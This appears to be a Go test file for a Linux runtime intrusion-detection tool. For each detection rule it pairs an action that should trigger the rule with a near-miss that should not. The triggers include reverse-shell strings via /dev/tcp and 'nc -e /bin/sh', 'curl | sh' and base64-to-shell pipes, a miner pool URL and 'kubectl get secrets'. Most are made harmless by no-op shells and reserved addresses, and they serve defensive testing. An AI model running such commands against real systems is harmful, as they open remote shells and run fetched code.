//go:build linux

package live

import (
	"net"
	"os"
	"os/exec"
	"syscall"

	"golang.org/x/sys/unix"
)

func executionProvocations() []provocation {
	container := surroundings{Container: true}
	return []provocation{
		{
			rule: "Program run from memory",
			do:   (*scene).runFromMemory,
			miss: func(s *scene) { s.runAs("on-disk", "nothing", "") },
		},
		{
			rule: "Program run from shared memory",
			in:   surroundings{Cover: []string{"/dev/shm"}},
			do:   func(s *scene) { s.runFrom("/dev/shm/tool", "nothing", "") },
			miss: func(s *scene) { s.runAs("tool", "nothing", "", "/dev/shm/data") },
		},
		{
			rule: "Program run from a hidden place in a temporary directory",
			in:   surroundings{Cover: []string{"/tmp"}},
			do:   func(s *scene) { s.runFrom("/tmp/.saker/tool", "nothing", "") },
			miss: func(s *scene) { s.runFrom("/tmp/saker/tool", "nothing", "") },
		},
		{
			rule: "New program run in container",
			in:   surroundings{Container: true, Overlay: true},
			do:   func(s *scene) { s.runFrom(s.path("merged/upper"), "nothing", "") },
			miss: func(s *scene) { s.start(s.path("merged/lower"), []string{"lower"}, "nothing", "") },
		},
		{
			rule: "Standard stream redirected to network connection",
			do: func(s *scene) {
				s.withConnection(func(fd int) { s.check(unix.Dup3(fd, 0, 0), "duplicating a socket") })
			},
			miss: func(s *scene) {
				s.withConnection(func(fd int) { s.check(unix.Dup3(fd, 100, 0), "duplicating a socket") })
			},
		},
		{
			rule: "Shell attached to network connection",
			also: []string{"Standard stream redirected to network connection"},
			do: func(s *scene) {
				s.withConnection(func(fd int) {
					s.check(unix.Dup3(fd, 0, 0), "duplicating a socket")
					s.check(unix.Exec("/bin/sh", []string{"sh", "-c", ":"}, os.Environ()), "becoming a shell")
				})
			},
			miss: func(s *scene) {
				var ends [2]int
				s.check(unix.Pipe2(ends[:], 0), "making a pipe")
				s.check(unix.Dup3(ends[0], 0, 0), "duplicating a pipe")
				s.check(unix.Exec("/bin/sh", []string{"sh", "-c", ":"}, os.Environ()), "becoming a shell")
			},
		},
		{
			rule: "Command line opens a remote shell",
			do:   func(s *scene) { s.run("sh", "-c", ": '>& /dev/tcp/192.0.2.1/9'") },
			miss: func(s *scene) { s.run("sh", "-c", ": '>& /dev/null'") },
		},
		{
			rule:     "Netcat or socat runs a program",
			also:     []string{"Network tool run on host"},
			do:       func(s *scene) { s.runAs("nc", "nothing", "", "-e", "/bin/sh", "192.0.2.1", "9") },
			miss:     func(s *scene) { s.runAs("nc", "nothing", "", "-l", "9") },
			missAlso: []string{"Network tool run on host"},
		},
		{
			rule: "Encoded payload executed",
			do:   func(s *scene) { s.run("sh", "-c", "echo Ogo= | base64 -d | sh") },
			miss: func(s *scene) { s.run("sh", "-c", "echo Ogo= | base64 -d > /dev/null") },
		},
		{
			rule: "Download handed to a shell",
			do:   func(s *scene) { s.run("sh", "-c", ": 'curl -s http://192.0.2.1/x | sh'") },
			miss: func(s *scene) { s.run("sh", "-c", ": 'curl -s http://192.0.2.1/x > x'") },
		},
		{
			rule: "Web server started a shell",
			do:   func(s *scene) { s.runAs("nginx", "spawn", "/bin/sh -c :") },
			miss: func(s *scene) { s.runAs("nginx", "spawn", "/bin/true") },
		},
		{
			rule: "Database started a program",
			do:   func(s *scene) { s.runAs("postgres", "spawn", "/bin/true") },
			miss: func(s *scene) { s.runAs("postgres", "respawn", "") },
		},
		{
			rule: "Network service started a shell",
			do:   func(s *scene) { s.runAs("exim4", "spawn", "/bin/sh -c :") },
			miss: func(s *scene) { s.runAs("exim4", "spawn", "/bin/true") },
		},
		{
			rule:   "System account at a terminal",
			in:     surroundings{Terminal: true, UID: 2},
			do:     func(s *scene) {}, // becoming the act's process, on the terminal, is the deed
			missIn: &surroundings{UID: 2},
			miss:   func(s *scene) {},
		},
		{
			rule:     "Terminal shell in container",
			also:     []string{"Privileged container started"},
			in:       surroundings{Container: true, Init: true, Terminal: true},
			do:       func(s *scene) { s.becomeShell() },
			missIn:   &surroundings{Container: true, Init: true},
			miss:     func(s *scene) { s.becomeShell() },
			missAlso: []string{"Privileged container started"},
		},
		{
			rule: "Package manager run in container",
			in:   container,
			do:   func(s *scene) { s.runAs("apt-get", "nothing", "", "install", "nothing") },
			miss: func(s *scene) { s.runAs("apt-history", "nothing", "") },
		},
		{
			rule: "Network tool run in container",
			in:   container,
			do:   func(s *scene) { s.runAs("nmap", "nothing", "", "-sS", "192.0.2.0/24") },
			miss: func(s *scene) { s.runAs("map", "nothing", "") },
		},
		{
			rule: "Network tool run on host",
			do:   func(s *scene) { s.runAs("masscan", "nothing", "") },
			miss: func(s *scene) { s.runAs("scan", "nothing", "") },
		},
		{
			rule: "Remote copy tool run in container",
			in:   container,
			do:   func(s *scene) { s.runAs("scp", "nothing", "", "x", "192.0.2.1:") },
			miss: func(s *scene) { s.runAs("cpio", "nothing", "") },
		},
		{
			rule: "Download tool run in container",
			in:   container,
			do:   func(s *scene) { s.runAs("wget", "nothing", "", "http://192.0.2.1/x") },
			miss: func(s *scene) { s.runAs("curl", "nothing", "", "http://192.0.2.1/x") },
		},
		{
			rule: "Kubernetes client run in container",
			in:   container,
			do:   func(s *scene) { s.runAs("kubectl", "nothing", "", "get", "secrets") },
			miss: func(s *scene) { s.runAs("kube-state", "nothing", "") },
		},
		{
			rule: "Archive streamed out of container",
			in:   container,
			do:   func(s *scene) { s.runAs("tar", "nothing", "", "cf", "-", "/srv") },
			miss: func(s *scene) { s.runAs("tar", "nothing", "", "cf", "x.tar", "/srv") },
		},
		{
			rule: "Download tool run behind a proxy of its own",
			do: func(s *scene) {
				s.env = []string{"HTTP_PROXY=http://192.0.2.1:3128"}
				s.runAs("curl", "nothing", "", "http://192.0.2.2/")
			},
			miss: func(s *scene) { s.runAs("curl", "nothing", "", "http://192.0.2.2/") },
		},
		{
			rule: "Crypto miner",
			do:   func(s *scene) { s.runAs("tool", "nothing", "", "-o", "stratum+tcp://192.0.2.1:3333") },
			miss: func(s *scene) { s.runAs("tool", "nothing", "", "-o", "tcp://192.0.2.1:3333") },
		},
		{
			rule:   "Privileged container started",
			in:     surroundings{Container: true, Init: true},
			do:     func(s *scene) {}, // becoming the act's process, as process 1, is the deed
			missIn: &surroundings{Container: true, Init: true, DropCaps: "all"},
			miss:   func(s *scene) {},
		},
		{
			rule:   "Container started with excessive capabilities",
			in:     surroundings{Container: true, Init: true, DropCaps: "admin"},
			do:     func(s *scene) {},
			missIn: &surroundings{Container: true, Init: true, DropCaps: "all"},
			miss:   func(s *scene) {},
		},
	}
}

// withConnection makes a TCP connection over the loopback device and hands its descriptor to the act.
func (s *scene) withConnection(act func(fd int)) {
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	s.check(err, "listening")
	conn, err := net.Dial("tcp", listener.Addr().String())
	s.check(err, "connecting")
	file, err := conn.(*net.TCPConn).File()
	s.check(err, "taking the socket's descriptor")
	act(int(file.Fd()))
}

// becomeShell executes a shell that does nothing, in this process.
func (s *scene) becomeShell() {
	shell, err := exec.LookPath("sh")
	s.check(err, "looking for a shell")
	s.check(syscall.Exec(shell, []string{"sh", "-c", ":"}, os.Environ()), "becoming a shell")
}
